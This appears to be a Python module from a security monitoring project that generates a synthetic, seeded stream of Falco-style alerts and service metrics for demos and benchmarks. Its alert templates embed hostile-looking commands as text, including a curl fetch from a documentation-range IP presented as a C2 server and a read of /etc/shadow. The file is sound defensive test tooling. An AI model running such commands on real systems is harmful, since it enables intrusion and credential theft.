"""A realistic synthetic telemetry stream for the demo and the benchmarks: `vigil generate`.

Deterministic for a seed: the same seed, start time and rate give the same records. Each record
is in the raw format of its source (Falco JSON alerts, metric samples, ...), so it travels the
same path as real telemetry. A small share is deliberately malformed, to show dead-lettering.
"""

from __future__ import annotations

import hashlib
import math
import random
from collections.abc import Iterator
from dataclasses import dataclass

import orjson

from app.events import format_time

HOSTS = ("node-a", "node-b", "node-c", "node-d")
SERVICES = ("payments", "checkout", "search", "auth")
IMAGES = {
    "payments": "registry.example.com/payments",
    "checkout": "registry.example.com/checkout",
    "search": "registry.example.com/search",
    "auth": "registry.example.com/auth",
}

#: (rule, priority, output template, tags) of common Falco rules.
FALCO_RULES = (
    (
        "Terminal shell in container",
        "Notice",
        "A shell was spawned in a container with an attached terminal (user={user} {container} "
        "shell=bash parent=runc cmdline=bash terminal=34816)",
        ["container", "shell", "mitre_execution"],
    ),
    (
        "Write below etc",
        "Error",
        "File below /etc opened for writing (user={user} command=sed -i s/a/b/ /etc/hosts "
        "file=/etc/hosts {container})",
        ["filesystem", "mitre_persistence"],
    ),
    (
        "Launch Privileged Container",
        "Informational",
        "Privileged container started (user={user} {container})",
        ["container", "cis"],
    ),
    (
        "Read sensitive file untrusted",
        "Warning",
        "Sensitive file opened for reading by non-trusted program (user={user} file=/etc/shadow "
        "{container})",
        ["filesystem", "mitre_credential_access"],
    ),
    (
        "Outbound Connection to C2 Servers",
        "Critical",
        "Outbound connection to C2 server (command=curl http://203.0.113.7/x {container})",
        ["network", "mitre_command_and_control"],
    ),
)

METRICS = {
    "http_requests_per_second": (120.0, 25.0, 6.0),  # baseline, daily amplitude, noise sd
    "http_request_latency_p99_ms": (180.0, 30.0, 12.0),
    "http_error_ratio": (0.01, 0.004, 0.002),
}


@dataclass(frozen=True, slots=True)
class RawRecord:
    """One generated raw record: its family (raw topic), event time and bytes."""

    family: str
    ts_ms: int
    value: bytes


class TelemetryGenerator:
    """Produces an endless, mixed, realistic telemetry stream from a seed."""

    def __init__(self, seed: int = 7, bad_ratio: float = 0.005) -> None:
        self.random = random.Random(seed)
        self.bad_ratio = bad_ratio
        self._burst_left = 0
        self._burst_host = HOSTS[0]
        self._spike_left = 0
        self._spike_service = SERVICES[0]

    def records(self, start_ms: int, rate: float, count: int | None = None) -> Iterator[RawRecord]:
        """`count` records (endless when None) with event times spaced `1000 / rate` ms apart."""
        step = 1000.0 / rate
        index = 0
        while count is None or index < count:
            yield self.record_at(int(start_ms + index * step))
            index += 1

    def record_at(self, ts_ms: int) -> RawRecord:
        """One record with event time `ts_ms`, its kind drawn from the stream's mix."""
        r = self.random.random()
        if r < self.bad_ratio:
            return self._malformed(ts_ms)
        if self._burst_left > 0 or self.random.random() < 0.0005:
            return self._falco_burst(ts_ms)
        if r < 0.25:
            return self._falco(ts_ms)
        return self._metric(ts_ms)

    def _falco(
        self, ts_ms: int, host: str | None = None, rule_index: int | None = None
    ) -> RawRecord:
        rnd = self.random
        host = host or rnd.choice(HOSTS)
        service = rnd.choice(SERVICES)
        rule, priority, template, tags = FALCO_RULES[
            rule_index if rule_index is not None else rnd.choices(range(5), (30, 8, 5, 6, 1))[0]
        ]
        container_id = hashlib.blake2b(f"{host}/{service}".encode(), digest_size=6).hexdigest()
        container = f"container_id={container_id} image={IMAGES[service]}:1.4.2 k8s.ns=prod"
        user = rnd.choice(("root", "app", "nobody"))
        time = format_time(ts_ms)
        alert = {
            "hostname": host,
            "output": f"{time}: {priority} " + template.format(user=user, container=container),
            "priority": priority,
            "rule": rule,
            "source": "syscall",
            "tags": tags,
            "time": time.replace("Z", "000000Z"),
            "output_fields": {
                "container.id": container_id,
                "container.image.repository": IMAGES[service],
                "container.image.tag": "1.4.2",
                "k8s.ns.name": "prod",
                "k8s.pod.name": f"{service}-{container_id[:5]}",
                "user.name": user,
                "evt.time": ts_ms * 1_000_000,
                "proc.cmdline": "bash",
            },
        }
        return RawRecord("falco", ts_ms, orjson.dumps(alert))

    def _falco_burst(self, ts_ms: int) -> RawRecord:
        if self._burst_left == 0:
            self._burst_left = self.random.randint(40, 120)
            self._burst_host = self.random.choice(HOSTS)
        self._burst_left -= 1
        return self._falco(ts_ms, host=self._burst_host, rule_index=0)

    def _metric(self, ts_ms: int) -> RawRecord:
        rnd = self.random
        service = rnd.choice(SERVICES)
        name = rnd.choice(tuple(METRICS))
        base, amplitude, noise = METRICS[name]
        day = (ts_ms / 86_400_000.0) * 2 * math.pi
        value = base + amplitude * math.sin(day) + rnd.gauss(0, noise)
        if self._spike_left == 0 and rnd.random() < 0.0004:
            self._spike_left, self._spike_service = rnd.randint(5, 20), service
        if self._spike_left > 0 and service == self._spike_service:
            self._spike_left -= 1
            value *= 4.0
        sample = {
            "name": name,
            "labels": {"service": service, "env": "prod"},
            "value": round(max(value, 0.0), 6),
            "timestamp": ts_ms,
        }
        return RawRecord("metrics", ts_ms, orjson.dumps(sample))

    def _malformed(self, ts_ms: int) -> RawRecord:
        kind = self.random.choice(("truncated", "wrong_type", "not_json"))
        if kind == "truncated":
            return RawRecord("falco", ts_ms, b'{"rule": "Write below etc", "priority": "Err')
        if kind == "wrong_type":
            return RawRecord(
                "falco",
                ts_ms,
                orjson.dumps({"rule": 42, "priority": "Error", "output": "x", "time": ts_ms}),
            )
        return RawRecord("metrics", ts_ms, b"\xff\xfe not utf-8")
